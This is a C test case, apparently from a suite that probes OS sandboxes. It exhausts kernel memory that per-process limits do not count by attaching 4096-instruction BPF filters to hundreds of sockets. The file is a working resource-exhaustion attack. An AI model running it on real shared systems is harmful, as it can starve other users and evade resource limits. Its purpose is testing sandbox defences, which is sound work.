// Takes the kernel's memory, and the machine's share of it for compiled programs, by filters on sockets.
// class: OS sandboxes: kernel memory that no limit counts
// plain: say
// flags: --memory 150MiB
#include "attack.h"
#include <linux/filter.h>
#include <netinet/in.h>
#include <sys/socket.h>

enum { kSockets = 400, kLong = 4096 };

static struct sock_filter code[kLong];
static const struct sock_fprog filter = {kLong, code};

static int attach(int domain, int type, int option) {
  const int one = 1;
  const int made = socket(domain, type | SOCK_CLOEXEC, 0);
  if (made < 0) return 0;
  if (setsockopt(made, SOL_SOCKET, SO_REUSEPORT, &one, sizeof one) != 0) return 0;
  struct sockaddr_in any = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  if (option == SO_ATTACH_REUSEPORT_CBPF && bind(made, (struct sockaddr*)&any, sizeof any) != 0)
    return 0;
  return setsockopt(made, SOL_SOCKET, option, &filter, sizeof filter) == 0;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  for (int i = 0; i < kLong; ++i)
    code[i] = (struct sock_filter)BPF_STMT(BPF_ALU | BPF_MUL | BPF_K, 0x12345678);
  code[kLong - 1] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0);
  int made = 0;
  int groups = 0;
  for (int i = 0; i < kSockets; ++i) {
    made += attach(AF_INET, SOCK_DGRAM, SO_ATTACH_FILTER);
    made += attach(AF_NETLINK, SOCK_DGRAM, SO_ATTACH_FILTER);
    groups += attach(AF_INET, SOCK_DGRAM, SO_ATTACH_REUSEPORT_CBPF);
  }
  printf("%d filters, %d of ports that several listen on\n", made, groups);
  if (made + groups > 100) effect("%d filters", made + groups);
  return 0;
}
